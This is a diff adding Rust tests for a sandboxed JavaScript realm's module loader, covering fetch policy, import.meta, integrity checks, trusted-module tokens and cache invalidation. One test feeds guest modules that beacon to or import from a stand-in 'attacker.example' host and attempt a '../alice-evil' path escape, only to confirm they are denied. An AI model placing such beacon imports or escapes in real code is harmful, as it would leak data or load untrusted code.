@@ -1,0 +1,261 @@
+//! Guest ES modules with host-provided sources: the policy decides before any fetch,
+//! graphs preload then link, import.meta is { url } only, trusted modules are inert tokens,
+//! and invalidation drops importers transitively.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+#[cfg(target_arch = "wasm32")]
+wasm_bindgen_test::wasm_bindgen_test_configure!(run_in_browser);
+
+use std::collections::HashMap;
+
+use isolated_realm::modules::policy::{Policy, TokenKind, TrustedModule, integrity_of};
+use isolated_realm::{ErrorCode, EvalOptions, Graph, Object, Outcome, Realm, RealmOptions, Value};
+use wasm_bindgen_test::wasm_bindgen_test;
+
+const REALM: &str = "https://realm.example/alice/";
+const PKG: &str = "https://cdn.example/pkg@1.0.0/index.js";
+const PKG_SRC: &str = "export const version = '1.0.0';";
+
+fn realm() -> Realm {
+    let mut policy =
+        Policy::new(&[REALM], &[], &[(PKG, &integrity_of(PKG_SRC.as_bytes()))]).unwrap();
+    policy.trust(TrustedModule {
+        specifier: "@cardstack/card-api".into(),
+        exports: vec![
+            ("CardDef".into(), TokenKind::Class),
+            ("field".into(), TokenKind::Function),
+            ("Button".into(), TokenKind::Value),
+        ],
+    });
+    let options = RealmOptions {
+        allow_code_generation: true,
+        modules: policy,
+        ..Default::default()
+    };
+    Realm::new(options, None).unwrap()
+}
+
+/// Serves every requested fetch from `files` until the import settles; returns what was
+/// requested (the request log) and the result.
+fn import(
+    r: &mut Realm,
+    url: &str,
+    files: &HashMap<&str, &str>,
+) -> (Vec<String>, Result<Graph, isolated_realm::SandboxError>) {
+    let mut log = Vec::new();
+    let mut outcome = r.import(url).map(|o| (o, Vec::new()));
+    loop {
+        match outcome {
+            Err(e) => return (log, Err(e)),
+            Ok((Outcome::Done(g), _)) => return (log, Ok(g)),
+            Ok((Outcome::Pending(token), mut finished)) => {
+                if let Some(pos) = finished.iter().position(|(t, _)| *t == token) {
+                    return (log, finished.remove(pos).1);
+                }
+                let fetches = r.take_fetches();
+                assert!(!fetches.is_empty(), "pending with nothing to fetch");
+                let mut done = Vec::new();
+                for f in fetches {
+                    log.push(f.url.clone());
+                    let body = files
+                        .get(f.url.as_str())
+                        .map(|s| s.as_bytes().to_vec())
+                        .ok_or_else(|| "404".to_owned());
+                    done.extend(r.provide(&f.url, body));
+                }
+                outcome = Ok((Outcome::Pending(token), done));
+            }
+        }
+    }
+}
+
+fn names(g: &Graph) -> Vec<String> {
+    let Value::Object(id) = g.root else {
+        panic!("{g:?}")
+    };
+    let Some(Object::Array { elements, .. }) = g.get(id) else {
+        panic!("{g:?}")
+    };
+    elements
+        .iter()
+        .map(|(_, v)| match v {
+            Value::String(t) => t.to_lossy(),
+            _ => String::new(),
+        })
+        .collect()
+}
+
+#[wasm_bindgen_test(unsupported = test)]
+fn a_module_graph_preloads_links_and_evaluates() {
+    let mut r = realm();
+    let files = HashMap::from([
+        (
+            "https://realm.example/alice/card.js",
+            "import { twice } from './lib/math.js'; import { version } from 'https://cdn.example/pkg@1.0.0/index.js';\nexport const answer = twice(21); export const meta = JSON.stringify(import.meta); export const v = version; globalThis.fromModule = answer;",
+        ),
+        (
+            "https://realm.example/alice/lib/math.js",
+            "export function twice(x) { return x * 2 }",
+        ),
+        (PKG, PKG_SRC),
+    ]);
+    let (log, result) = import(&mut r, "https://realm.example/alice/card.js", &files);
+    assert_eq!(names(&result.unwrap()), ["answer", "meta", "v"]);
+    assert_eq!(log.len(), 3);
+    let meta = r.eval("fromModule", &EvalOptions::default()).unwrap();
+    assert_eq!(meta.root, Value::Number(42.0));
+}
+
+#[wasm_bindgen_test(unsupported = test)]
+fn import_meta_is_url_only() {
+    let mut r = realm();
+    let files = HashMap::from([(
+        "https://realm.example/alice/m.js",
+        "globalThis.meta = [Object.keys(import.meta).join(), import.meta.url, Object.getPrototypeOf(import.meta)];",
+    )]);
+    import(&mut r, "https://realm.example/alice/m.js", &files)
+        .1
+        .unwrap();
+    let g = r
+        .eval("JSON.stringify(meta)", &EvalOptions::default())
+        .unwrap();
+    assert_eq!(
+        g.root,
+        Value::str("[\"url\",\"https://realm.example/alice/m.js\",null]")
+    );
+}
+
+#[wasm_bindgen_test(unsupported = test)]
+fn denied_imports_request_nothing_and_carry_the_code() {
+    let mut r = realm();
+    let files = HashMap::from([
+        (
+            "https://realm.example/alice/beacon.js",
+            "import 'https://attacker.example/collect?beacon=1';",
+        ),
+        (
+            "https://realm.example/alice/sibling.js",
+            "import '../alice-evil/x.js';",
+        ),
+        (
+            "https://realm.example/alice/caught.js",
+            "export let got; try { await import('https://attacker.example/x.js') } catch (e) { got = e.name }\nglobalThis.caught = got;",
+        ),
+    ]);
+    for entry in [
+        "https://realm.example/alice/beacon.js",
+        "https://realm.example/alice/sibling.js",
+    ] {
+        let (log, result) = import(&mut r, entry, &files);
+        assert_eq!(log, [entry], "only the entry was fetched: {log:?}");
+        assert_eq!(
+            result.expect_err(entry).code,
+            ErrorCode::PolicyDenied,
+            "{entry}"
+        );
+    }
+    let (log, result) = import(&mut r, "https://realm.example/alice/caught.js", &files);
+    result.unwrap();
+    assert_eq!(log, ["https://realm.example/alice/caught.js"]);
+    assert_eq!(
+        r.eval("caught", &EvalOptions::default()).unwrap().root,
+        Value::str("TypeError")
+    );
+    // The host cannot be talked into fetching outside the policy either.
+    assert_eq!(
+        r.import("https://attacker.example/x.js")
+            .expect_err("denied")
+            .code,
+        ErrorCode::PolicyDenied
+    );
+    assert!(r.take_fetches().is_empty());
+    // Scripts get the same policy for dynamic import.
+    let g = r
+        .eval(
+            "import('https://attacker.example/y.js').then(() => 'loaded', (e) => e.name)",
+            &EvalOptions::default(),
+        )
+        .unwrap();
+    assert_eq!(g.root, Value::str("TypeError"));
+    assert!(r.take_fetches().is_empty());
+}
+
+#[wasm_bindgen_test(unsupported = test)]
+fn integrity_mismatch_and_syntax_errors_are_typed() {
+    let mut r = realm();
+    let files = HashMap::from([
+        (
+            "https://realm.example/alice/uses-pkg.js",
+            "import 'https://cdn.example/pkg@1.0.0/index.js';",
+        ),
+        (PKG, "export const version = 'tampered';"),
+        (
+            "https://realm.example/alice/broken.js",
+            "export const x = ;",
+        ),
+    ]);
+    let (_, result) = import(&mut r, "https://realm.example/alice/uses-pkg.js", &files);
+    assert_eq!(result.expect_err("integrity").code, ErrorCode::PolicyDenied);
+    let (_, result) = import(&mut r, "https://realm.example/alice/broken.js", &files);
+    let e = result.expect_err("syntax");
+    assert_eq!(e.code, ErrorCode::Syntax);
+    let loc = e.details.location.expect("location");
+    assert_eq!(
+        (loc.filename.as_str(), loc.line),
+        ("https://realm.example/alice/broken.js", 1)
+    );
+}
+
+#[wasm_bindgen_test(unsupported = test)]
+fn trusted_modules_are_inert_tokens() {
+    let mut r = realm();
+    let files = HashMap::from([(
+        "https://realm.example/alice/card.js",
+        "import { CardDef, field, Button } from '@cardstack/card-api';\nclass Counter extends CardDef { static title = field('number'); }\nglobalThis.probe = JSON.stringify({ sub: new Counter() instanceof CardDef, keys: Object.getOwnPropertyNames(CardDef).sort(), desc: Counter.title, frozen: Object.isFrozen(Button), proto: Object.getPrototypeOf(Button) });",
+    )]);
+    import(&mut r, "https://realm.example/alice/card.js", &files)
+        .1
+        .unwrap();
+    let g = r.eval("probe", &EvalOptions::default()).unwrap();
+    assert_eq!(
+        g.root,
+        Value::str(
+            "{\"sub\":true,\"keys\":[\"length\",\"name\",\"prototype\"],\"desc\":{\"token\":\"field\",\"args\":[\"number\"]},\"frozen\":true,\"proto\":null}"
+        )
+    );
+}
+
+#[wasm_bindgen_test(unsupported = test)]
+fn invalidation_drops_importers_and_refetches() {
+    let mut r = realm();
+    let mut files = HashMap::from([
+        (
+            "https://realm.example/alice/card.js",
+            "import { n } from './dep.js'; globalThis.seen = n;",
+        ),
+        ("https://realm.example/alice/dep.js", "export const n = 1;"),
+    ]);
+    import(&mut r, "https://realm.example/alice/card.js", &files)
+        .1
+        .unwrap();
+    assert_eq!(
+        r.eval("seen", &EvalOptions::default()).unwrap().root,
+        Value::Number(1.0)
+    );
+    files.insert("https://realm.example/alice/dep.js", "export const n = 2;");
+    let mut gone = r.invalidate("https://realm.example/alice/dep.js");
+    gone.sort();
+    assert_eq!(
+        gone,
+        [
+            "https://realm.example/alice/card.js",
+            "https://realm.example/alice/dep.js"
+        ]
+    );
+    let (log, result) = import(&mut r, "https://realm.example/alice/card.js", &files);
+    result.unwrap();
+    assert_eq!(log.len(), 2, "both were fetched again");
+    assert_eq!(
+        r.eval("seen", &EvalOptions::default()).unwrap().root,
+        Value::Number(2.0)
+    );
+}
